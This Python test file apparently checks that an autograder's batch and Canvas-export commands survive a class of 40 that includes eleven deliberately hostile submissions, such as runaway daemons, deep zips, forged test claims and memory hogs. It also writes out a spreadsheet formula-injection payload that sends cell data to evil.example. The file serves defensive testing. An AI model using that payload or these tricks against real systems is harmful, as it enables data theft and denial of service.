"""A class of 40 with one hostile student per kind of issue 28 (its "Done when"): does `grader batch` give 40
rows and every class file, and does each hostile student cost no one else their grade?

The kinds, each a submission from tests/adversarial/ that broke something before:
- A, the grader's own process: a correct engine holding an int literal too long to write as text, a zip of
  files 1,600 folders deep, a message of slashes, a megabyte of blank lines, a Gradescope name longer than a
  file name;
- B, units that talked: notes left in a read-only folder for later runs, a daemon that outlives its unit,
  folders 1,500 deep left in /tmp, memory spread over processes;
- C, cells that were formulas: a roster whose display name is a spreadsheet formula;
- D, claims the grader took: a notebook whose tests rewrite what later runs reuse, tests that forge the
  numbers deciding which sabotages count.
The others are correct and buggy engines in several styles, with and without tests.
"""

from __future__ import annotations

import csv
import json
import subprocess
import sys
import time
from pathlib import Path

from conftest import BASE_ENGINE, BUGGY_ENGINES, CORRECT_ENGINES, HERE

from grader.folders import remove_tree

HOSTILE = HERE / "adversarial"
sys.path.insert(0, str(HOSTILE))  # the hostile class's makers, tests/adversarial/*.py, imported below
import blank_lines  # noqa: E402
import deep_zip  # noqa: E402
import long_lms_name  # noqa: E402

GRADEBOOK_FILE, SUMMARY_FILE = "grades.csv", "summary.json"

GOOD_TESTS = (HERE / "fixtures" / "suites" / "good.py").read_text()
FORMULA = '=HYPERLINK("https://evil.example/?d="&C2;"Open")'
SPEC = """id = "forty"
version = "1"
title = "A class of forty"
required_symbols = ["Value"]
sabotages = ["add_half", "mul_own_data", "assign_not_accumulate"]
[limits]
request_s = 3.0
tests_s = 10.0
submission_s = 60.0
memory_mb = 512
[search]
max_examples = 10
[checks]
forward = { points = 6 }
add = { points = 6 }
accumulate = { points = 4 }
student_tests = { points = 2 }
wheat = { points = 1 }
sabotage = { points = 1 }
"""


def _hostile(folder: Path) -> list[str]:
    """One student per kind, in the class folder; their ids as the gradebook names them."""
    huge = folder / "mallory"
    huge.mkdir()
    (huge / "micrograd_mine.py").write_text((HOSTILE / "huge_literal.py").read_text())
    (huge / "test_micrograd.py").write_text(GOOD_TESTS)
    deep_zip.write(folder / "trudy.zip", hidden=True)
    (folder / "slasher.py").write_text((HOSTILE / "slashes.py").read_text())
    blank_lines.write(folder / "blanky.py", megabytes=1)
    notes = folder / "noted"
    notes.mkdir()
    (notes / "micrograd_mine.py").write_text((HOSTILE / "notes_left.py").read_text() + BASE_ENGINE.read_text())
    (notes / "test_micrograd.py").write_text(GOOD_TESTS + "\n\n" + (HOSTILE / "notes_tests.py").read_text())
    (folder / "daemon.py").write_text((HOSTILE / "daemon.py").read_text().replace("__MARK__", "86400"))
    (folder / "deeptree.py").write_text(
        (HOSTILE / "deep_tree.py").read_text().replace("__TOKEN__", "forty-deep") + BASE_ENGINE.read_text()
    )
    (folder / "spread.py").write_text(
        (HOSTILE / "memory_spread.py").read_text().replace("__PROCESSES__", "4").replace("__MB__", "256")
    )
    (folder / f"hyperlink_90001_80001_{'micrograd_mine.py'}").write_text(CORRECT_ENGINES[1].read_text())
    (folder / "rewriter.ipynb").write_text((HOSTILE / "rewrites_transformed.ipynb").read_text())
    forger = folder / "forger"
    forger.mkdir()
    (forger / "micrograd_mine.py").write_text(BASE_ENGINE.read_text())
    (forger / "test_micrograd.py").write_text((HOSTILE / "equivalence_claims_tests.py").read_text())
    return [
        "mallory",
        "trudy",
        "slasher",
        "blanky",
        "noted",
        "daemon",
        "deeptree",
        "spread",
        "hyperlink",
        "rewriter",
        "forger",
    ]


def test_a_class_of_forty_with_one_hostile_student_per_kind(tmp_path):
    assignment = tmp_path / "forty"
    assignment.mkdir()
    (assignment / "assignment.toml").write_text(SPEC)
    folder = tmp_path / "class"
    folder.mkdir()
    hostile = _hostile(folder)
    gradescope = long_lms_name.write(tmp_path / "gradescope-long")  # two students: alice and the long name
    ordinary = 40 - len(hostile) - 2
    engines = CORRECT_ENGINES + BUGGY_ENGINES
    for i in range(ordinary):
        student = folder / f"student{i:02d}"
        student.mkdir()
        (student / "micrograd_mine.py").write_text(engines[i % len(engines)].read_text())
        if i % 2:
            (student / "test_micrograd.py").write_text(GOOD_TESTS)
    roster = tmp_path / "gradebook.csv"
    roster.write_text(
        "Student,ID,SIS User ID,SIS Login ID,Section,Micrograd (4401)\n"
        "    Points Possible,,,,,10.00\n"
        f'"{FORMULA.replace(chr(34), chr(34) * 2)}",90001,S90001,login90001,Section 01,\n'
    )
    out = tmp_path / "out"
    started = time.monotonic()
    try:
        done = subprocess.run(
            [
                sys.executable,
                "-m",
                "grader.cli",
                "batch",
                str(folder),
                str(gradescope),
                "--out",
                str(out),
                "--assignment",
                str(assignment),
                "--jobs",
                "2",
            ],
            capture_output=True,
            text=True,
            timeout=600,
        )
    finally:
        for leftover in Path("/tmp").glob("forty-deep*"):
            remove_tree(leftover)
    took = time.monotonic() - started
    assert done.returncode == 0, done.stderr[-3000:]
    for name in (GRADEBOOK_FILE, SUMMARY_FILE, "index.html", "work.json"):
        assert (out / name).is_file(), name
    with open(out / GRADEBOOK_FILE, newline="", encoding="utf-8") as f:
        rows = list(csv.DictReader(f))
    assert len(rows) == 40 and len({r["student"] for r in rows}) == 40, [r["student"] for r in rows]
    assert len(json.loads((out / SUMMARY_FILE).read_text())["students"]) == 40
    by_id = {r["student"]: r for r in rows}
    assert set(hostile) <= set(by_id), sorted(by_id)
    # A: the correct engine with the huge literal is graded as correct; the others are graded or say why
    assert by_id["mallory"]["forward"] == "6.0" and by_id["mallory"]["add"] == "6.0", by_id["mallory"]
    # B: no run saw notes an earlier unit left, so the note-reading test passes everywhere (no false alarm)
    assert by_id["noted"]["wheat"] == "1.0", by_id["noted"]
    assert not list(Path("/tmp").glob("forty-deep*"))  # the sandbox's tree is its own, and gone
    # the ordinary students are graded as their engines deserve, whoever sat beside them
    correct = {f"student{i:02d}" for i in range(ordinary) if engines[i % len(engines)] in CORRECT_ENGINES}
    for student in correct:
        row = by_id[student]
        assert row["status"] == "graded" and row["forward"] == "6.0" and row["accumulate"] == "4.0", row
    # D: the forged claims choose nothing: the forger's own mutants are not all left out as equivalent
    forger = json.loads((out / "students" / "forger" / "result.json").read_text())
    sabotage = next(c for c in forger["checks"] if c["id"] == "sabotage")
    assert "equivalent mutant" not in json.dumps(sabotage["artifacts"].get("left_out", {})), sabotage
    # C: no cell of the gradebook or the Canvas export is a formula
    export = tmp_path / "canvas.csv"
    exported = subprocess.run(
        [
            sys.executable,
            "-m",
            "grader.cli",
            "export",
            "canvas",
            "--from",
            str(out),
            "--roster",
            str(roster),
            "--out",
            str(export),
            "--allow-unmatched",
        ],
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert exported.returncode == 0, exported.stderr[-2000:]
    for path in (out / GRADEBOOK_FILE, export):
        with open(path, newline="", encoding="utf-8") as f:
            cells = [c for row in csv.reader(f) for c in row]
        assert not [c for c in cells if c.lstrip(" ")[:1] in ("=", "+", "@", "\t", "\r")], path
    assert f"'{FORMULA}" in export.read_text().replace('""', '"')
    assert took < 300, took
